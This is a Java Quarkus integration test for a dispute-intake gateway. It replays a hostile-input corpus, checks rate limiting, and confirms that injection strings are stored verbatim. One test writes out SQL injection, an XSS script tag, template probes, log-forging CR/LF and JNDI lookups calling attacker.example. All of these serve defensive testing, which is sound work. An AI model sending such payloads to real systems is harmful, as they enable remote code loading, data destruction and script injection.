package org.fengqiao.gateway.intake;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import java.io.IOException;
import java.io.InputStream;
import java.net.URI;
import java.net.URL;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.sql.ResultSet;
import java.sql.Statement;
import java.time.Duration;
import java.time.OffsetDateTime;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import jakarta.inject.Inject;
import jakarta.jms.TextMessage;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import org.fengqiao.gateway.ledger.DisputeLedger;
import org.fengqiao.gateway.ledger.LedgerDatabase;
import org.fengqiao.gateway.support.GatewayApi;
import org.fengqiao.gateway.support.GridReports;
import org.fengqiao.gateway.support.HandlerQueues;
import org.fengqiao.gateway.support.IdNumbers;
import org.fengqiao.gateway.support.Metrics;
import org.fengqiao.gateway.support.WireMockSimulators;
import org.fengqiao.gateway.support.WorkOrders;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * Replays the hostile corpus (src/test/resources/hostile/*.json): every entry must be refused with
 * its 4xx, as problem+json with its stable code (and the field, where the entry names one), while
 * nothing is stored (no dispute, no history entry, not the entry's record number), nothing is sent
 * (the source's usual handler queue keeps its depth) and the gateway stays ready.
 *
 * <p>Corpus format, one file per endpoint: {@code target}, {@code system}, {@code queue}, then
 * {@code entries} of {@code name}, {@code method} (POST), {@code path} (else target),
 * {@code contentType} (absent: no header), {@code accept}, {@code body} or {@code bodyBase64}
 * (bytes that are not UTF-8), {@code status}, {@code code}, {@code field}, {@code recordId}. In
 * bodies, ⟪repeat N⟫text⟪/repeat⟫ stands for text N times (deep nesting, huge strings) and
 * ⟪disputeId⟫ for a dispute created for the run.
 *
 * <p>Injection strings (SQL, script, template, JNDI, CR/LF) in an otherwise valid payload are text
 * and are stored as such: the corpus entries make the payload invalid in another way or put the
 * string where the contract forbids it (a record number, an enumeration, a date), and
 * {@link #injectionStringsInAValidPayloadAreStoredVerbatim()} shows valid text is kept verbatim.
 */
@QuarkusTest
@QuarkusTestResource(WireMockSimulators.class)
class HostileInputTest {

    static final List<String> CORPUS = List.of("hotline", "court", "grid-worker", "petition", "handler-events");
    static final Pattern REPEAT = Pattern.compile("⟪repeat (\\d+)⟫(.*?)⟪/repeat⟫", Pattern.DOTALL);
    static final String DIANKOU = "330681104"; // 诸暨市店口镇

    static HandlerQueues queues;
    final ObjectMapper json = new ObjectMapper();
    final HttpClient http = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1)
            .connectTimeout(Duration.ofSeconds(10)).build();

    @TestHTTPResource("/")
    URL base;

    @Inject
    DisputeLedger ledger;
    @Inject
    LedgerDatabase database;

    @BeforeAll
    static void connect() throws Exception {
        queues = HandlerQueues.embedded();
    }

    @AfterAll
    static void disconnect() throws Exception {
        queues.close();
    }

    @Test
    void everyHostilePayloadIsRefusedAndChangesNothing() throws Exception {
        String disputeId = GatewayApi.postWorkOrder(WorkOrders.newGdbh(), "诸暨市店口镇解放路18号");
        assertThat(GatewayApi.handler(disputeId)).isEqualTo(DIANKOU);
        // Deliveries of earlier tests still pending would land on the queues while the corpus runs.
        await().atMost(Duration.ofSeconds(30))
                .until(() -> ledger.pendingDeliveries(OffsetDateTime.now().plusYears(1), 1).isEmpty());

        int tried = 0;
        List<String> misbehaved = new ArrayList<>();
        for (String name : CORPUS) {
            JsonNode corpus = json.readTree(resource("hostile/" + name + ".json"));
            String system = corpus.path("system").isTextual() ? corpus.get("system").asText() : null;
            String queue = corpus.get("queue").asText();
            for (JsonNode entry : corpus.get("entries")) {
                tried++;
                String label = name + ": " + entry.get("name").asText();
                List<String> wrong = replay(corpus, entry, system, queue, disputeId);
                if (!wrong.isEmpty()) {
                    misbehaved.add(label + " → " + String.join("; ", wrong));
                }
            }
        }
        GatewayApi.status(disputeId, "DISPATCHED");
        System.out.println("Hostile corpus: " + tried + " payloads tried, " + (tried - misbehaved.size()) + " behaved");
        misbehaved.forEach(m -> System.out.println("  misbehaved: " + m));
        assertThat(tried).isGreaterThanOrEqualTo(150);
        assertThat(misbehaved).as("entries that misbehaved").isEmpty();
    }

    private List<String> replay(JsonNode corpus, JsonNode entry, String system, String queue, String disputeId)
            throws Exception {
        long disputes = count("dispute");
        long history = count("dispute_history");
        int depth = queues.depth(queue);

        String path = (entry.has("path") ? entry.get("path") : corpus.get("target")).asText()
                .replace("⟪disputeId⟫", disputeId);
        HttpResponse<String> response = http.send(request(entry, path), HttpResponse.BodyHandlers.ofString());

        List<String> wrong = new ArrayList<>();
        int status = entry.get("status").asInt();
        if (response.statusCode() != status) {
            wrong.add("status " + response.statusCode() + " instead of " + status);
        }
        String type = response.headers().firstValue("Content-Type").orElse("");
        if (!type.startsWith("application/problem+json")) {
            wrong.add("Content-Type '" + type + "'");
        } else {
            JsonNode problem = json.readTree(response.body());
            String code = entry.get("code").asText();
            if (!code.equals(problem.path("code").asText())) {
                wrong.add("code " + problem.path("code").asText() + " instead of " + code);
            }
            if (problem.path("status").asInt() != response.statusCode()) {
                wrong.add("problem status " + problem.path("status").asInt());
            }
            if (entry.has("field") && !fields(problem).contains(entry.get("field").asText())) {
                wrong.add("field " + entry.get("field").asText() + " not named, only " + fields(problem));
            }
            if (response.body().contains("at org.") || response.body().contains("Exception")) {
                wrong.add("the answer shows internals");
            }
        }
        if (count("dispute") != disputes || count("dispute_history") != history) {
            wrong.add("something was stored");
        }
        if (system != null && entry.has("recordId")
                && ledger.findBySourceRecord(system, entry.get("recordId").asText()).isPresent()) {
            wrong.add("its record was stored");
        }
        if (queues.depth(queue) != depth) {
            wrong.add("something was sent to " + queue);
        }
        HttpResponse<String> ready = http.send(HttpRequest.newBuilder(URI.create(Metrics.managementUrl() + "q/health/ready")).GET().build(),
                HttpResponse.BodyHandlers.ofString());
        if (ready.statusCode() != 200 || !ready.body().contains("\"UP\"")) {
            wrong.add("readiness " + ready.statusCode());
        }
        return wrong;
    }

    private HttpRequest request(JsonNode entry, String path) {
        byte[] body = entry.has("bodyBase64") ? Base64.getDecoder().decode(entry.get("bodyBase64").asText())
                : entry.has("body") ? expand(entry.get("body").asText()).getBytes(StandardCharsets.UTF_8) : null;
        String method = entry.path("method").asText("POST");
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(base + path.substring(1)))
                .timeout(Duration.ofSeconds(30))
                .method(method, body == null ? HttpRequest.BodyPublishers.noBody() : HttpRequest.BodyPublishers.ofByteArray(body));
        if (entry.has("contentType")) {
            request.header("Content-Type", entry.get("contentType").asText());
        }
        request.header("Accept", entry.path("accept").asText("application/json, application/problem+json"));
        // Signed as the source would: the corpus is about the payload, not about authentication.
        org.fengqiao.gateway.support.SignedSources.headersFor(path, body == null ? new byte[0] : body)
                .forEach(request::header);
        return request.build();
    }

    static String expand(String body) {
        Matcher m = REPEAT.matcher(body);
        StringBuilder out = new StringBuilder();
        while (m.find()) {
            m.appendReplacement(out, Matcher.quoteReplacement(m.group(2).repeat(Integer.parseInt(m.group(1)))));
        }
        m.appendTail(out);
        return out.toString();
    }

    private static List<String> fields(JsonNode problem) {
        List<String> out = new ArrayList<>();
        problem.path("errors").forEach(e -> out.add(e.path("field").asText()));
        return out;
    }

    private long count(String table) throws Exception {
        try (Connection c = database.connection(); Statement s = c.createStatement();
                ResultSet rs = s.executeQuery("select count(*) from " + table)) {
            rs.next();
            return rs.getLong(1);
        }
    }

    private static byte[] resource(String name) throws IOException {
        try (InputStream in = HostileInputTest.class.getClassLoader().getResourceAsStream(name)) {
            assertThat(in).as(name).isNotNull();
            return in.readAllBytes();
        }
    }

    /**
     * A source sending faster than its limit gets 429 with Retry-After, and nothing of the refused
     * request is kept; other sources go on, the gateway stays ready, and once the bucket refills the
     * source is served again. The test-only route has the grid-worker intake under a limit of one
     * request per 2 s with bursts of 3 (gateway.sources.rate-probe.* in the test profile).
     */
    @Test
    void aBurstOverASourcesRateLimitIsRefusedWith429() throws Exception {
        String probe = base + "api/v1/test-only/rate-probe/reports";
        int accepted = 0;
        HttpResponse<String> refused = null;
        String refusedSbbh = null;
        for (int i = 0; i < 12 && refused == null; i++) {
            String sbbh = GridReports.newSbbh();
            HttpResponse<String> answer = postJson(probe, GridReports.json(report(sbbh)));
            if (answer.statusCode() == 429) {
                refused = answer;
                refusedSbbh = sbbh;
            } else {
                assertThat(answer.statusCode()).isEqualTo(202);
                accepted++;
            }
        }
        assertThat(refused).as("a 429 within 12 quick posts").isNotNull();
        assertThat(accepted).isGreaterThanOrEqualTo(1);
        assertThat(refused.headers().firstValue("Content-Type").orElse("")).startsWith("application/problem+json");
        assertThat(json.readTree(refused.body()).path("code").asText()).isEqualTo("RATE_LIMITED");
        assertThat(Long.parseLong(refused.headers().firstValue("Retry-After").orElseThrow())).isBetween(1L, 5L);
        assertThat(ledger.findBySourceRecord("GRID_WORKER", refusedSbbh)).isEmpty();

        // Another source is not limited by this one's bucket; the gateway stays ready.
        GatewayApi.postWorkOrder(WorkOrders.newGdbh(), "诸暨市店口镇解放路18号");
        assertThat(http.send(HttpRequest.newBuilder(URI.create(Metrics.managementUrl() + "q/health/ready")).build(),
                HttpResponse.BodyHandlers.ofString()).statusCode()).isEqualTo(200);

        await().atMost(Duration.ofSeconds(10)).pollInterval(Duration.ofMillis(500))
                .until(() -> postJson(probe, GridReports.json(report(GridReports.newSbbh()))).statusCode() == 202);
    }

    private static Map<String, Object> report(String sbbh) {
        Map<String, Object> report = GridReports.valid(sbbh);
        report.put("sjry", List.of(GridReports.person("测试村民甲", IdNumbers.random(), null, "反映人")));
        return report;
    }

    private HttpResponse<String> postJson(String url, String body) throws Exception {
        byte[] bytes = body.getBytes(StandardCharsets.UTF_8);
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(url)).header("Content-Type", "application/json")
                .POST(HttpRequest.BodyPublishers.ofByteArray(bytes));
        org.fengqiao.gateway.support.SignedSources.headersFor(URI.create(url).getPath(), bytes)
                .forEach(request::header);
        return http.send(request.build(), HttpResponse.BodyHandlers.ofString());
    }

    /**
     * Injection strings are text: in a valid work order they are stored and delivered exactly as sent,
     * never evaluated (no lookup, no template, no SQL), and answers never quote them.
     */
    @Test
    void injectionStringsInAValidPayloadAreStoredVerbatim() throws Exception {
        queues.drain("dispute.handler." + DIANKOU, 100);
        String text = "'; DROP TABLE dispute; -- <script>alert(1)</script> ${7*7} {{7*7}} "
                + "${jndi:ldap://attacker.example/a}\r\n2026-11-29 INFO forged line 表情\u200d符号";
        Map<String, Object> order = WorkOrders.valid(WorkOrders.newGdbh());
        order.put("sqnr", text);
        order.put("sqbt", "${jndi:ldap://attacker.example/b}");
        HttpResponse<String> answer = postJson(base + "api/v1/sources/hotline/work-orders", WorkOrders.json(order));
        assertThat(answer.statusCode()).isEqualTo(202);
        String id = json.readTree(answer.body()).get("disputeId").asText();

        JsonNode stored = json.readTree(http.send(HttpRequest.newBuilder(URI.create(base + "api/v1/disputes/" + id))
                .header("Authorization", org.fengqiao.gateway.support.SignedSources.basic(DIANKOU)).build(),
                HttpResponse.BodyHandlers.ofString()).body());
        assertThat(stored.at("/dispute/description").asText()).isEqualTo(text);
        assertThat(stored.at("/dispute/title").asText()).isEqualTo("${jndi:ldap://attacker.example/b}");
        List<TextMessage> sent = queues.drain("dispute.handler." + DIANKOU, 5000);
        assertThat(sent).hasSize(1);
        assertThat(json.readTree(sent.get(0).getText()).at("/description").asText()).isEqualTo(text);
    }
}
